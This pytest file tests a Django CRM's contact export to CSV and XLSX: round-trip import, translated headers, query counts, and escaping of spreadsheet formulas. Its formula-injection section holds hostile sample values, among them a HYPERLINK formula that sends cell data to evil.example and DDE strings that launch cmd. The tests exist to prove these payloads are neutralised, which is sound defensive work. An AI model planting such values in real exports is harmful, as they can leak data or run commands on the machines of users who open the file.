"""Contact export through django-import-export: CSV and XLSX that import back unchanged, with
translated column titles and no per-contact queries."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from crm_sms.importing import import_contacts
from crm_sms.models import Contact, ContactGroup
from crm_sms.resources import ContactResource, escape_formula

pytestmark = pytest.mark.django_db

FIELDS = ("last_name", "first_name", "middle_name", "phone", "email", "notes", "external_id")


@pytest.fixture
def people():
    vip, wholesale = (
        ContactGroup.objects.create(name="VIP"),
        ContactGroup.objects.create(name="Опт"),
    )
    a = Contact.objects.create(
        last_name="Иванов",
        first_name="Иван",
        middle_name="Иванович",
        phone="+79001234212",
        email="ivan@example.ru",
        notes='многострочная\nзаметка; с "кавычками", запятыми',
        external_id="0001",
    )
    a.groups.set([vip, wholesale])
    b = Contact.objects.create(first_name="Jane", phone="+79001234213", opted_out=True)
    b.groups.set([vip])
    Contact.objects.create(phone="+447911123456")  # a UK number
    return [a, b]


def snapshot():
    return {
        c.phone: (
            tuple(getattr(c, f) for f in FIELDS),
            c.opted_out,
            tuple(sorted(g.name for g in c.groups.all())),
        )
        for c in Contact.objects.prefetch_related("groups")
    }


def export(client, fmt_index: int) -> bytes:
    data = {"format": str(fmt_index), "resource": "0"}
    for field in ContactResource().get_export_order():
        data[f"contactresource_{field}"] = "on"
    response = client.post(reverse("admin:crm_sms_contact_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize(("fmt_index", "name"), [(0, "contacts.csv"), (1, "contacts.xlsx")])
def test_export_imports_back_unchanged(admin_en, people, fmt_index, name):
    before = snapshot()
    content = export(admin_en, fmt_index)
    Contact.objects.update(first_name="changed")  # an import must restore them
    result = import_contacts(content, filename=name)
    assert result.skipped == 0 and result.updated == 3
    assert snapshot() == before
    again = import_contacts(content, filename=name)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)


def test_export_titles_follow_the_language(client, admin_user, people):
    client.force_login(admin_user)
    data = {"format": "0", "resource": "0"}
    for field in ContactResource().get_export_order():
        data[f"contactresource_{field}"] = "on"
    ru = client.post(
        reverse("admin:crm_sms_contact_export"), data, headers={"accept-language": "ru"}
    )
    assert ru.content.decode("utf-8").splitlines()[0].startswith("Фамилия,Имя,Отчество,Телефон")
    en = client.post(
        reverse("admin:crm_sms_contact_export"), data, headers={"accept-language": "en"}
    )
    assert en.content.decode("utf-8").splitlines()[0].startswith("Last name,First name")


def test_export_does_not_query_per_contact(admin_en, django_assert_max_num_queries):
    groups = [ContactGroup.objects.create(name=f"G{i}") for i in range(3)]
    Contact.objects.bulk_create([Contact(phone=f"+7900{2000000 + i}") for i in range(120)])
    through = Contact.groups.through
    through.objects.bulk_create(
        [
            through(contact_id=c, contactgroup_id=groups[0].pk)
            for c in Contact.objects.values_list("pk", flat=True)
        ]
    )
    with django_assert_max_num_queries(15):
        content = export(admin_en, 0)
    assert content.decode().count("G0") == 120


def test_export_link_on_the_contact_list(admin_en):
    page = admin_en.get(reverse("admin:crm_sms_contact_changelist"))
    html = page.content.decode()
    assert reverse("admin:crm_sms_contact_export") in html
    assert reverse("admin:crm_sms_contact_import") in html


# --- formula injection (issue 10, point 3) ------------------------------------------------

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "cmd": "+cmd|' /C calc'!A0",
    "sum": "@SUM(1+9)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def hostile():
    group = ContactGroup.objects.create(name="=cmd|' /C calc'!A0")
    for i, (key, name) in enumerate(HOSTILE.items()):
        contact = Contact.objects.create(
            first_name=name, last_name=key, notes="@SUM(A1:A9)", phone=f"+7900123{4300 + i}"
        )
        contact.groups.set([group])
    return HOSTILE


def test_csv_export_escapes_formulas(admin_en, hostile):
    content = export(admin_en, 0).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(content)))
    assert len(rows) == len(hostile)
    for row in rows:
        name = hostile[row["Last name"]]
        # The OWASP way: a leading apostrophe makes a spreadsheet show the text, not run it.
        assert row["First name"] == "'" + name
        assert row["Notes"] == "'@SUM(A1:A9)"
        assert row["Groups"] == "'=cmd|' /C calc'!A0"
        # A phone is E.164 (a plus and digits): no formula, and it must stay as it is.
        assert row["Phone"].startswith("+7900123")


def test_xlsx_export_has_no_formula_cells(admin_en, hostile):
    sheet = openpyxl.load_workbook(io.BytesIO(export(admin_en, 1))).active
    rows = list(sheet.iter_rows(values_only=False))
    titles = [cell.value for cell in rows[0]]
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    for row in rows[1:]:
        values = dict(zip(titles, (cell.value for cell in row), strict=True))
        # XML reads a carriage return back as a line feed.
        expected = "'" + hostile[values["Last name"]].replace("\r", "\n")
        assert values["First name"] == expected
        assert values["Phone"].startswith("+7900123")  # not escaped, not a number


def test_phone_numbers_and_harmless_text_are_not_escaped(admin_en, people):
    content = export(admin_en, 0).decode("utf-8")
    rows = {row["Phone"]: row for row in csv.DictReader(io.StringIO(content))}
    assert set(rows) == {"+79001234212", "+79001234213", "+447911123456"}
    assert rows["+79001234212"]["First name"] == "Иван"
    assert rows["+79001234212"]["Notes"].startswith("многострочная")


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("==HYPERLINK()", "'==HYPERLINK()"),  # import-export's own setting strips one '=' only
        ("-2+3", "'-2+3"),
        ("+79001234212", "+79001234212"),  # E.164: a number, not a formula
        ("-15", "-15"),
        ("+7 900 123-42-12", "'+7 900 123-42-12"),  # not a plain number: Excel would compute it
        ("Иван", "Иван"),
        ("a=1", "a=1"),
        ("", ""),
        (None, None),
        (5, 5),
    ],
)
def test_escape_formula(value, exported):
    assert escape_formula(value) == exported
